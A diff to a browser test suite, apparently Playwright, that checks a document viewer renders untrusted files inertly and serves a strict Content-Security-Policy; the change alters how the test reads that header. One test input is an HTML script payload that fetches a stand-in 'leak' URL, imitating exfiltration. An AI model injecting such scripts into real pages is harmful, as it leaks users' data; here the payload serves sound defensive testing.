@@ -203,7 +203,9 @@ test('the viewer shows a picture and nothing else: a script in an SVG and a PDF 
   expect(await drawn('text/html', '<script>fetch("https://example.com/leak")</script>')).toEqual(inert);
   expect(await drawn('image/png', 'x'.repeat(50 * 1024 * 1024))).toEqual(inert);
   expect(asked.filter((url) => !url.endsWith('/viewer') && !url.startsWith(world.deskUrl))).toEqual([]);
-  const policy = (await page.request.get('/viewer')).headers()['content-security-policy'];
+  const policy = await page.evaluate(async () =>
+    (await fetch('/viewer')).headers.get('content-security-policy'),
+  );
   expect(policy).toContain("default-src 'none'");
   expect(policy).toContain('sandbox allow-scripts;');
   await desk.close();
